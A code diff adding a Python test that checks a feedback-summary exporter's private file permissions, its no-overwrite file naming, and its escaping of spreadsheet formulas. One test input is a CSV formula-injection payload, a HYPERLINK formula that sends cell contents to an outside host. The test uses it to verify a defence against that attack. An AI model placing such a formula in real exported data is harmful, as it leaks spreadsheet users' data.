@@ -112,3 +112,37 @@ def test_exports_read_back_and_are_private(tmp_path: Path, rubric: Rubric) -> No
     assert stat.S_IMODE(folder.stat().st_mode) == 0o700
     for path in (csv_path, md_path):
         assert stat.S_IMODE(path.stat().st_mode) == 0o600
+
+
+def test_exports_make_private_folders_refuse_formulas_and_never_replace(
+    tmp_path: Path, rubric: Rubric
+) -> None:
+    import os
+
+    names = ['=HYPERLINK("http://example.com/?d="&A1,"open")', "+1", "@SUM(A1)", "-2", "Dee"]
+    entries = [Entry(name, 1, "r", feedback(50 + i, (FIX,))) for i, name in enumerate(names)]
+    summary = summarise(entries, names, title="Friday")
+    labels = labels_for(rubric)
+    folder = tmp_path / "new" / "deeper"
+    when = datetime(2026, 3, 6, 10, 15)
+    old = os.umask(0)
+    try:
+        first = export(summary, labels, folder, "friday", when)
+        second = export(summary, labels, folder, "friday", when)
+    finally:
+        os.umask(old)
+
+    for level in (tmp_path / "new", folder):
+        assert stat.S_IMODE(level.stat().st_mode) == 0o700
+    # The second export in the same minute gets its own files; the first is kept.
+    assert second[0] != first[0] and second[1] != first[1]
+    assert {p.name for p in folder.iterdir()} == {
+        "friday-20260306-1015.csv",
+        "friday-20260306-1015.md",
+        "friday-20260306-1015-2.csv",
+        "friday-20260306-1015-2.md",
+    }
+    rows = list(csv.DictReader(io.StringIO(first[0].read_text(encoding="utf-8"))))
+    cells = [r["name"] for r in rows if r["scope"] == "participant"]
+    assert cells == ["'" + names[0], "'+1", "'@SUM(A1)", "'-2", "Dee"]
+    assert all(not r["most_common_roadblock"].startswith("=") for r in rows)
